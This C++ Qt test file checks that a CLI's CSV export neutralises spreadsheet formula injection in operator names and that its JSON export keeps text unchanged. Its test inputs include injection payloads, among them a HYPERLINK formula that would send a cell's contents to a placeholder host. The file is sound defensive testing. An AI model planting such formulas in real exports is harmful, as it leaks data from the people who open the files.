#include "cli/verbs/station_export.h"

#include <QtTest>

using station::AttemptRecord;

namespace {

/// Lines and cells of a table, as in RFC 4180.
QList<QStringList> cellsOf(const QString& csv) {
  QList<QStringList> lines{{QString()}};
  bool isQuoted = false;
  for (int i = 0; i < csv.size(); ++i) {
    QString& cell = lines.last().last();
    if (csv[i] == '"' && isQuoted && i + 1 < csv.size() && csv[i + 1] == '"') {
      cell += csv[++i];
    } else if (csv[i] == '"') {
      isQuoted = !isQuoted;
    } else if (isQuoted || (csv[i] != ',' && csv[i] != '\r' && csv[i] != '\n')) {
      cell += csv[i];
    } else if (csv[i] == ',') {
      lines.last() << QString();
    } else if (csv[i] == '\n') {
      lines << QStringList{QString()};
    }
  }
  lines.removeLast();  // after the last line end
  return lines;
}

AttemptRecord attemptBy(const QString& name) {
  AttemptRecord attempt;
  attempt.id = 7;
  attempt.serial = "LN000001";
  attempt.result = "FAIL";
  attempt.operatorName = name;
  return attempt;
}

}  // namespace

/// The ledger's attempts as files for other programs.
class ExportTest : public QObject {
  Q_OBJECT

 private slots:
  void noCellIsAFormulaAndEachCanBeRestored_data() {
    QTest::addColumn<QString>("text");
    for (const char* text : {"Ann",
                             "",
                             "=1+1",
                             "+1",
                             "-1",
                             "@SUM(1)",
                             "\t=1",
                             "\r=1",
                             "\n=1",
                             "'",
                             "''=1",
                             "'quoted",
                             "a=1",
                             " =1",
                             "\uFF1D1",
                             "\uFF0B1",
                             "\uFF0D1",
                             "\uFF201",
                             "a \"b\", c\r\nd",
                             "=HYPERLINK(\"http://x/?\"&A1,\"y\")"}) {
      QTest::newRow(text) << QString::fromUtf8(text);
    }
  }
  void noCellIsAFormulaAndEachCanBeRestored() {
    QFETCH(QString, text);
    const auto lines = cellsOf(QString::fromUtf8(cli::csvOf({attemptBy(text)})));
    QCOMPARE(lines.size(), 2);
    QCOMPARE(lines[1].size(), lines[0].size());
    const int column = lines[0].indexOf("operator");
    QVERIFY(column >= 0);
    QString cell = lines[1][column];
    QVERIFY(cell.isEmpty() || !QString::fromUtf8("=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20").contains(cell.front()));
    if (cell.startsWith('\'')) {
      cell.remove(0, 1);
    }
    QCOMPARE(cell, text);
    // No other cell gets an apostrophe.
    QCOMPARE(lines[1][lines[0].indexOf("serial")], QString("LN000001"));
  }

  void jsonHoldsEachTextAsItIs() {
    for (const QString text : {"=1+1", "'", "a \"b\"\r\n"}) {
      QCOMPARE(cli::attemptValue(attemptBy(text))["operator"], cli::Value(text));
    }
  }
};

QTEST_GUILESS_MAIN(ExportTest)
#include "export_test.moc"
